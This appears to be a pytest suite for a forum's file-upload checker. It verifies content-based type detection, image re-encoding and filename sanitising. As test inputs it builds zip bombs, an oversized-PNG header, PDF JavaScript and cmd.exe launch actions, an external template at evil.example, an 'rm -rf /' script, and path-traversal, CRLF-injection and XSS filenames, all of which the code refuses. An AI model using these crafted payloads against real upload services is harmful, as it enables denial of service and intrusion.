"""What an uploaded file is, told by its content."""

import struct
import zlib
from io import BytesIO
from unicodedata import normalize
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import pikepdf
import pytest
from PIL import Image

from forum.core.errors import Refusal
from forum.programme.errors import (
    FileActiveError,
    FileBrokenError,
    FileEmptyError,
    FileKindError,
    FileLockedError,
    FileTooLargeError,
    FileUnpacksTooLargeError,
    ImageTooLargeError,
)
from forum.programme.filenames import safe_filename
from forum.programme.uploads import LARGEST_FILE, MOST_PIXELS, recognise
from tests.factories.files import (
    OFFICE,
    OPEN_PRESENTATION,
    PROGRAM,
    office,
    open_presentation,
    package,
    pdf,
    picture,
)

TAKEN = {
    "PDF": (pdf(), "application/pdf", "pdf"),
    "PPTX": (office(), OFFICE + "presentationml.presentation", "pptx"),
    "DOCX": (
        office("wordprocessingml.document"), OFFICE + "wordprocessingml.document", "docx"
    ),
    "ODP": (open_presentation(), OPEN_PRESENTATION, "odp"),
    "JPEG": (picture("JPEG"), "image/jpeg", "jpg"),
    "PNG": (picture("PNG"), "image/png", "png"),
    "WebP": (picture("WEBP"), "image/webp", "webp"),
    "GIF": (picture("GIF"), "image/png", "png"),
}  # fmt: skip


@pytest.mark.parametrize(("data", "kind", "ending"), TAKEN.values(), ids=TAKEN)
def test_each_kind_is_told_by_its_content_whatever_its_name(data, kind, ending):
    for name in ("slides", "slides.exe", "slides.pdf", "slides.svg"):
        taken = recognise(data, name)

        assert taken.content_type == kind
        assert taken.filename == f"slides.{ending}"


@pytest.mark.parametrize("name", ["PDF", "PPTX", "DOCX", "ODP"])
def test_what_is_no_picture_is_kept_byte_by_byte(name):
    data = TAKEN[name][0]

    assert recognise(data, "x").data == data


def bomb(size=400 * 1024 * 1024):
    """Return a presentation that unpacks to nothing but zeros."""
    buffer = BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED, compresslevel=9) as made:
        made.writestr("[Content_Types].xml", f"{OFFICE}presentationml.presentation.main+xml")
        zeros = ZipInfo("ppt/media/image1.bmp")
        zeros.compress_type = ZIP_DEFLATED
        with made.open(zeros, "w") as entry:
            for _number in range(size // (1024 * 1024)):
                entry.write(bytes(1024 * 1024))
    return buffer.getvalue()


def lying_bomb():
    """Return a package whose directory claims the same bytes for many entries."""
    data = bytearray(office(more={"a": b"\x00" * 1000}))
    directory = data.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<I", data, directory + 16)[0]
    entries = bytes(data[start:directory])
    count = struct.unpack_from("<H", data, directory + 10)[0]
    end = bytearray(data[directory:])
    struct.pack_into("<HHI", end, 8, count * 50, count * 50, len(entries) * 50)
    return bytes(data[:start]) + entries * 50 + bytes(end)


def huge_picture():
    """Return a PNG of 100 bytes that says it has 50,000 by 50,000 pixels."""

    def chunk(name, content):
        body = name + content
        return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))

    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 100))
        + chunk(b"IEND", b"")
    )


def locked_package():
    data = bytearray(office(more={"slide.xml": "<p/>"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = data.rindex(mark)
        data[position + offset] |= 1
    return bytes(data)


SCRIPT = {"/S": pikepdf.Name.JavaScript, "/JS": "app.alert(1)"}
LAUNCH = {"/S": pikepdf.Name.Launch, "/F": "cmd.exe"}
MACROS = (
    '<Override ContentType="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"/>'
)
TEMPLATE = (
    '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
)

REFUSED = {
    "nothing": (b"", FileEmptyError),
    "a renamed program": (PROGRAM, FileKindError),
    "a program with a presentation behind it": (PROGRAM + office(), FileKindError),
    "a script": (b"#!/bin/sh\nrm -rf /\n", FileKindError),
    "a page": (b"<!doctype html><script>alert(1)</script>", FileKindError),
    "a drawing with a script": (b"<svg onload='alert(1)' xmlns='...'/>", FileKindError),
    "a page that says PDF later on": (b"<html>%PDF-1.7</html>", FileKindError),
    "text": ("안녕하세요".encode(), FileKindError),
    "any zip": (package({"a.txt": "a"}), FileKindError),
    "a java archive": (package({"META-INF/MANIFEST.MF": "Main-Class: X"}), FileKindError),
    "a spreadsheet": (office("spreadsheetml.sheet"), FileKindError),
    "an old presentation": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), FileKindError),
    "a sound": (b"RIFF\x24\x00\x00\x00WAVEfmt ", FileBrokenError),
    "a PDF that is a zip too": (pdf() + package({"a": "b"}), FileKindError),
    "the head of a PDF": (b"%PDF-1.7\n", FileBrokenError),
    "a PDF without pages": (pdf(pages=0), FileBrokenError),
    "a PDF with a password": (pdf(password="geheim"), FileLockedError),
    "a PDF with a script": (pdf(action=SCRIPT), FileActiveError),
    "a PDF that starts a program": (pdf(action=LAUNCH), FileActiveError),
    "half a presentation": (office()[:200], FileBrokenError),
    "a presentation with a password": (locked_package(), FileLockedError),
    "a presentation with macros": (office(more={"ppt/vbaProject.bin": b"x"}), FileActiveError),
    "macros by another name": (office(more={"ppt/VBAPROJECT.BIN": b"x"}), FileActiveError),
    "macros by their type": (office(types=MACROS), FileActiveError),
    "a control that runs": (office(more={"ppt/activeX/activeX1.xml": "x"}), FileActiveError),
    "a book with macros inside": (office(more={"ppt/embeddings/a.xlsm": "x"}), FileActiveError),
    "a template from elsewhere": (
        office("wordprocessingml.document", {"word/_rels/settings.xml.rels": TEMPLATE}),
        FileActiveError,
    ),
    "an ODP with macros": (open_presentation({"Basic/Standard/M.xml": "x"}), FileActiveError),
    "an ODP with scripts": (open_presentation({"Scripts/python/x.py": "x"}), FileActiveError),
    "a way out": (office(more={"../../etc/cron.d/x": "x"}), FileBrokenError),
    "a way to another drive": (office(more={"C:\\Windows\\x": "x"}), FileBrokenError),
    "a lying directory": (lying_bomb(), FileUnpacksTooLargeError),
    "ten thousand parts": (
        office(more={f"ppt/{number}": "" for number in range(10_001)}),
        FileUnpacksTooLargeError,
    ),
    "a picture of nothing": (b"\xff\xd8\xff\xe0" + bytes(50), FileBrokenError),
    "half a picture": (picture("PNG", size=(400, 400))[:100], FileBrokenError),
    "a picture of 2,500 million pixels": (huge_picture(), ImageTooLargeError),
    "a file of 40 MB": (b"%PDF-1.7\n" + bytes(40 * 1024 * 1024), FileTooLargeError),
}


@pytest.mark.parametrize(("data", "refusal"), REFUSED.values(), ids=REFUSED)
def test_what_does_harm_is_refused_with_its_reason(data, refusal):
    for name in ("slides.pdf", "slides.pptx", "slides.png"):
        with pytest.raises(Refusal) as refused:
            recognise(data, name)
        assert type(refused.value) is refusal


def test_a_bomb_is_never_unpacked():
    data = bomb()
    assert len(data) < 1024 * 1024, "small to send"

    with pytest.raises(FileUnpacksTooLargeError):
        recognise(data, "slides.pptx")


def test_a_file_just_within_the_limit_is_taken_and_one_byte_more_is_not():
    tail = b"\n%" + bytes(LARGEST_FILE)
    head = pdf()
    within = head + tail[: LARGEST_FILE - len(head)]

    assert len(recognise(within, "x").data) == LARGEST_FILE
    with pytest.raises(FileTooLargeError) as refused:
        recognise(within + b"\n", "x")
    assert "25" in refused.value.sentence()


def test_a_picture_is_drawn_anew_without_what_the_camera_wrote():
    exif = Image.Exif()
    exif[0x010F] = "A camera"
    exif[0x0112] = 6  # turned by a quarter
    data = picture("JPEG", size=(40, 20), exif=exif) + b"<script>alert(1)</script>"

    taken = recognise(data, "photo.jpg").data

    assert b"script" not in taken
    assert b"camera" not in taken
    assert Image.open(BytesIO(taken)).size == (20, 40), "upright without the note"


def test_a_transparent_picture_stays_so():
    taken = recognise(picture("PNG", mode="RGBA"), "logo.png").data

    assert Image.open(BytesIO(taken)).mode == "RGBA"


def test_a_picture_of_just_too_many_pixels_is_measured_before_it_is_drawn():
    wide = MOST_PIXELS // 1000 + 1
    with pytest.raises(ImageTooLargeError) as refused:
        recognise(picture("PNG", mode="1", size=(wide, 1000)), "x.png")
    assert "40" in refused.value.sentence()


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("발표 자료.pdf", "발표 자료.pdf"),
        (normalize("NFD", "발표.pptx"), "발표.pdf"),
        ("../../../etc/passwd", "passwd.pdf"),
        ("..\\..\\Windows\\win.ini", "win.pdf"),
        ("C:\\Users\\홍길동\\slides.PPTX", "slides.pdf"),
        ("report.pdf.exe", "report.pdf.pdf"),
        ("fdp.\u202eexe.pdf", "fdp.exe.pdf"),
        ("a\u0000b\r\nSet-Cookie: x.pdf", "ab Set-Cookie x.pdf"),
        ('a"b;c.pdf', "a b;c.pdf"),
        ("<b>bold</b>.pdf", "b.pdf"),
        ("CON.pdf", "file CON.pdf"),
        ("", "file.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("....", "file.pdf"),
        ("🙂.pdf", "🙂.pdf"),
        ("v1.2 final.pdf", "v1.2 final.pdf"),
        ("가" * 300 + ".pdf", "가" * 120 + ".pdf"),
    ],
)
def test_a_name_is_shown_safely_and_ends_as_its_content_does(name, safe):
    assert safe_filename(name, "pdf") == safe


@pytest.mark.parametrize("names", [5, pikepdf.Array([1]), pikepdf.Name.X, pikepdf.String("x")])
def test_a_pdf_whose_names_are_none_is_read_all_the_same(names):
    document, written = pikepdf.open(BytesIO(pdf())), BytesIO()
    document.Root["/Names"] = names
    document.save(written)

    assert recognise(written.getvalue(), "slides.pdf").content_type == "application/pdf"
